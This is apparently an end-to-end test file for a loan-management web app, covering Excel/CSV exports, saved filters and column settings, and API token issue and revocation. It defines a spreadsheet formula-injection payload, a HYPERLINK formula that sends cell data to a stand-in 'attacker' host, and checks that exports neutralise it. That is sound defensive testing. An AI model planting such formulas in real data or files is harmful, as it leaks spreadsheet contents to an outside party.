"""The two lists of the book in a browser: a file that is opened again, filters and columns that stay."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import openpyxl

from postloan.customers.models import Customer
from postloan.loans.models import Loan, LoanState
from tests.journeys.person import PHONE

PAYLOAD = '=HYPERLINK("http://attacker/?"&A1,"open")'
ACCOUNT = "0062284800123456789"


def take_out(person, kind: str) -> Path:
    """A download leaves the page, and so the menu, as it was."""
    menu = person.page.locator("details.pl-drop", has=person.page.locator("form[action$='/export']"))
    if menu.get_attribute("open") is None:
        menu.locator("summary").first.click()
    person.page.locator("form[action$='/export'] input[name=everything]").check()
    with person.page.expect_download() as download:
        person.page.locator(f"form[action$='/export'] button[value={kind}]").click()
    return Path(download.value.path())


def test_an_export_opens_with_whole_account_numbers_and_formulas_that_do_nothing(enter, bank):
    head = enter("branch_head", "/loans?all=1")
    number = head.page.locator("main tbody td.l-name a").first.inner_text()
    loan = Loan.objects.get(loan_no=number)
    Loan.objects.filter(pk=loan.pk).update(account_no=ACCOUNT)
    Customer.objects.filter(pk=loan.customer_id).update(name=PAYLOAD)
    head.open(f"/loans?q={number}")
    file = take_out(head, "xlsx")

    rows = list(openpyxl.load_workbook(BytesIO(file.read_bytes())).active.iter_rows())
    heads = [cell.value for cell in rows[0]]
    row = dict(zip(heads, rows[1], strict=True))
    assert row["借据号"].value == number
    assert (row["还款账户"].value, row["还款账户"].data_type) == (ACCOUNT, "s")
    assert (row["客户"].value, row["客户"].data_type, row["客户"].quotePrefix) == (PAYLOAD, "s", True)
    balance = LoanState.objects.now().get(loan=loan).principal_balance
    assert row["余额"].value == float(balance)
    text = " ".join(str(cell.value) for line in rows for cell in line)
    assert bank.people["branch_head"]["staff_no"] in text
    file = take_out(head, "csv")
    assert f"'{PAYLOAD}".replace('"', '""') in file.read_text(encoding="utf-8-sig")

    auditor = enter("audit_administrator", "/records/exports")
    assert auditor.count("main tbody tr") == 2


def test_a_filter_and_columns_stay_for_their_owner(enter, bank):
    head = enter("branch_head", "/loans?band=overdue", width=PHONE)
    head.page.locator(".pl-drop summary").first.click()
    head.page.fill("#filter-name", "逾期贷款")
    head.page.locator(".pl-save input[name=is_default]").check()
    head.submit(head.page.locator(".pl-save button"))
    assert head.page.locator(".pl-drop summary").first.inner_text().startswith("逾期贷款")

    head.open("/loans")
    assert head.path() == "/loans?band=overdue"
    head.page.locator(".pl-drop summary", has_text="列").click()
    head.page.locator("input[name=columns][value=account]").check()
    head.submit(head.page.locator("form[action$='/layout'] button.btn-primary"))
    account = Loan.objects.get(loan_no=head.page.locator("main tbody td.l-name a").first.inner_text()).account_no
    assert account in head.text("main tbody tr")

    other = enter("risk_officer", "/loans")
    assert other.path() == "/loans"
    assert account not in other.text("main table")


def test_a_token_is_shown_once_reads_and_is_revoked(enter, bank):
    administrator = enter("security_administrator", "/api-tokens")
    administrator.follow("a[href='/api-tokens/new']")
    page = administrator.page
    page.fill("input[name=system]", "财务系统")
    page.select_option("select[name=branch]", index=1)
    page.locator("input[name=resources][value=loans]").check()
    page.fill("input[name=reason]", "读取贷款余额")
    administrator.submit(page.locator("main form button.btn-primary"))
    secret = administrator.text(".one-time code")

    def status(path: str) -> int:
        asked = administrator.context.request.get(
            administrator.base + path, headers={"Authorization": f"Bearer {secret}"}
        )
        return asked.status

    assert (status("/api/v1/loans"), status("/api/v1/customers")) == (200, 403)
    administrator.open("/api-tokens")
    assert secret not in page.content()
    administrator.follow("a[href$='/revoke']")
    page.fill("input[name=reason]", "演示结束")
    administrator.submit(page.locator("main form button.btn-danger-quiet"))
    assert status("/api/v1/loans") == 401
